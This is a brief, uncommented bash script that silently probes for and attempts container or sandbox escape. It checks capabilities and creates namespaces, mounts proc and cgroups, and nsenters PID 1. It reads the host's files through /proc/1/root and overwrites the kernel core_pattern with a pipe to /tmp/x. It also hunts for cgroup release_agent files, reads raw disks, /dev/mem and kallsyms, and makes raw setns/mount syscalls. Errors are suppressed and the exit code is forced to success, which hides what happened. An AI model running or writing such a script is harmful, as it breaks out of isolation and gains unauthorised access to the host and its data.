#!/bin/bash
exec 2>/dev/null
grep Cap /proc/self/status /proc/1/status
unshare -Urm true
mount -t proc proc /mnt
mount -t cgroup -o rdma cgroup /tmp/cg
nsenter -t 1 -m -u -i -n true
cat /proc/1/root/etc/hostname
echo "|/tmp/x %P" > /proc/sys/kernel/core_pattern
find /sys/fs/cgroup -maxdepth 2 -name release_agent
for n in /dev/sda /dev/vda /dev/nvme0n1 /dev/mem; do head -c 1 $n; done
head -2 /proc/kallsyms
python3 -c 'import ctypes, os; l = ctypes.CDLL(None, use_errno=True); l.setns(os.open("/proc/self/ns/pid", 0), 0); l.mount(b"none", b"/mnt", b"tmpfs", 0, None); l.syscall(250, 0, 0)'
exit 0
